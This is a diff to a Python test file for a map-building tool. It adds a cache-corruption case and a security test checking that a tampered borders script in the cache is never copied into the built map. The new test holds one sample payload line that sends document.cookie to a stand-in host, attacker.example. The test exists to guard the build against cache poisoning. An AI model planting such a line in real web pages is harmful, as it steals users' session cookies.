@@ -188,7 +188,7 @@ def test_add_does_not_copy_links_that_leave_the_folder(tmp_path: Path, capsys: p
 # -- the store, a cache ------------------------------------------------------------------------
 
 
-@pytest.mark.parametrize("damage", ["garbage", "truncated"])
+@pytest.mark.parametrize("damage", ["garbage", "truncated", "scribbled"])
 def test_a_damaged_store_is_set_aside_and_rebuilt(seeds: Path, tmp_path: Path, damage: str) -> None:
     (seeds / "ganja.txt").write_text(BARDA.replace("Barda", "Ganja"), encoding="utf-8")
     out = tmp_path / "out"
@@ -197,9 +197,13 @@ def test_a_damaged_store_is_set_aside_and_rebuilt(seeds: Path, tmp_path: Path, d
     store = out / ".mapper-store.sqlite"
     if damage == "garbage":
         store.write_bytes(os.urandom(64 * 1024))
-    else:
+    elif damage == "truncated":
         with open(store, "r+b") as fh:
             fh.truncate(store.stat().st_size // 2)
+    else:  # pages torn in the middle, the size unchanged: found when the build reads them
+        with open(store, "r+b") as fh:
+            fh.seek(4096)
+            fh.write(os.urandom(store.stat().st_size - 4096))
     for full in (False, True):
         report = build(seeds, out, full=full)
         assert report.ok and report.articles == 2
@@ -480,6 +484,34 @@ def test_nothing_in_the_cache_folder_runs_code_when_read(tmp_path: Path) -> None
                 p.write_bytes(saved[p])
             else:
                 p.unlink(missing_ok=True)
+
+
+def test_a_script_planted_in_the_cache_never_reaches_the_map(seeds: Path, tmp_path: Path) -> None:
+    from gazetteer import default_cache_dir
+
+    out = tmp_path / "out"
+    build(seeds, out)
+    good = (out / "map_files" / "borders.js").read_bytes()
+    stamp = good.split(b"\n", 1)[0]
+    payload = stamp + b"\nwindow.incidentMapBorders = null; fetch('http://attacker.example/?' + document.cookie);\n"
+    cached = [p for p in default_cache_dir().glob("borders-*.js") if p.read_bytes().startswith(stamp)]
+    assert cached, "the build keeps its cut borders in the cache folder"
+    saved = {p: p.read_bytes() for p in cached}
+    import mapper.map.borders as borders
+
+    try:
+        for p in cached:
+            p.write_bytes(payload)
+        borders._BORDERS_CACHE.clear()
+        (out / "map_files" / "borders.js").write_bytes(payload)  # and in the output folder, with the right stamp
+        build(seeds, tmp_path / "fresh")
+        build(seeds, out)
+        for folder in (out, tmp_path / "fresh"):
+            assert (folder / "map_files" / "borders.js").read_bytes() == good
+    finally:
+        for p, data in saved.items():
+            p.write_bytes(data)
+        borders._BORDERS_CACHE.clear()
 
 
 # -- a full disk -------------------------------------------------------------------------------
